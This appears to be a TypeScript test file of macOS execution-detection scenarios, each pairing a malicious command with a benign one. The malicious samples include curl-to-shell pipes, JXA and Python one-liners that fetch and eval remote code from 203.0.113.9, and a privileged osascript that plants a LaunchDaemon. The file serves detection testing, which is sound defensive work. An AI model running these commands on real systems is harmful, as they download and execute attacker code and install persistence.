/** macOS execution (T1059.002, T1059.006, T1059.007, T1204.002, T1569.001) (policies/macos/execution_procedures.toml). */
import { pipe, run, runDoing, sc, type Scenario } from "../scenario.ts";

export const MACOS_EXECUTION: Scenario[] = [
  sc(
    "osascript_admin_shell",
    "mac_app",
    [run(
      "/usr/bin/osascript",
      "-e",
      'do shell script "cp /tmp/.a /Library/LaunchDaemons/a.plist" with administrator privileges',
    )],
    [run("/usr/bin/osascript", "-e", 'display notification "Build finished" with title "Xcode"')],
  ),
  sc(
    "osascript_shell_download",
    "mac_app",
    [run("/usr/bin/osascript", "-e", 'do shell script "curl -s http://203.0.113.9/s | sh"')],
    [run("/usr/bin/osascript", "-e", 'do shell script "open -a Safari"')],
  ),
  sc(
    "jxa_objc_inline",
    "mac_app",
    [run(
      "/usr/bin/osascript",
      "-l",
      "JavaScript",
      "-e",
      "ObjC.import('Foundation'); eval($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString('http://203.0.113.9/j')), $.NSUTF8StringEncoding).js)",
    )],
    [run("/usr/bin/osascript", "-l", "JavaScript", "-e", "Application('Music').playpause()")],
  ),
  sc(
    "osascript_terminal_do_script",
    "mac_app",
    [run(
      "/usr/bin/osascript",
      "-e",
      'tell application "Terminal" to do script "curl -s http://203.0.113.9/x | bash"',
    )],
    [run("/usr/bin/osascript", "-e", 'tell application "Terminal" to activate')],
  ),
  sc(
    "osascript_untrusted_script",
    "mac_app",
    [run("/usr/bin/osascript", "/Users/Shared/.cache/run.scpt")],
    [run("/usr/bin/osascript", "/Users/alice/Library/Scripts/Mail/archive.scpt")],
  ),
  sc(
    "osascript_spawns_fetcher",
    "mac_app",
    [runDoing("/usr/bin/osascript", ["osascript", "/Users/alice/Downloads/Installer.scpt"], [
      runDoing("/bin/sh", ["sh", "-c", "curl -so /tmp/.i http://203.0.113.9/i"], [
        run("/usr/bin/curl", "-so", "/tmp/.i", "http://203.0.113.9/i"),
      ]),
    ])],
    [runDoing("/usr/bin/osascript", ["osascript", "-e", 'do shell script "say done"'], [
      runDoing("/bin/sh", ["sh", "-c", "say done"], [run("/usr/bin/say", "done")]),
    ])],
  ),
  sc(
    "fetch_pipe_interpreter",
    "mac_user",
    [pipe(["/usr/bin/curl", "curl", "-fsSL", "http://203.0.113.9/s.scpt"], [
      "/usr/bin/osascript",
      "osascript",
    ])],
    [pipe(["/usr/bin/curl", "curl", "-s", "https://api.github.com/repos/x/y"], [
      "/usr/bin/python3",
      "python3",
      "-m",
      "json.tool",
    ])],
  ),
  sc(
    "python_download_exec_inline",
    "mac_app",
    [run(
      "/usr/bin/python3",
      "-c",
      "import urllib.request;exec(urllib.request.urlopen('http://203.0.113.9/p').read())",
    )],
    [run(
      "/usr/bin/python3",
      "-c",
      "import urllib.request;print(urllib.request.urlopen('https://pypi.org').status)",
    )],
  ),
  sc(
    "downloaded_app_runs_fetcher",
    "mac_app",
    [run("/usr/bin/curl", "-s", "-o", "/private/tmp/.upd", "http://203.0.113.9/upd")],
    [run("/usr/bin/curl", "-s", "-o", "/private/tmp/upd", "https://example.com/upd")],
    "mac_user",
  ),
  sc(
    "launchctl_asuser_untrusted",
    "mac_root",
    [run("/bin/launchctl", "asuser", "501", "/Users/Shared/.svc/agent")],
    [run("/bin/launchctl", "asuser", "501", "/usr/bin/open", "-a", "Safari")],
  ),
  sc(
    "hidden_app_launch",
    "mac_app",
    [run("/usr/bin/open", "-j", "-g", "-a", "/Users/Shared/.svc/Agent.app")],
    [run("/usr/bin/open", "-g", "-a", "/Applications/Slack.app")],
    "mac_user",
  ),
];
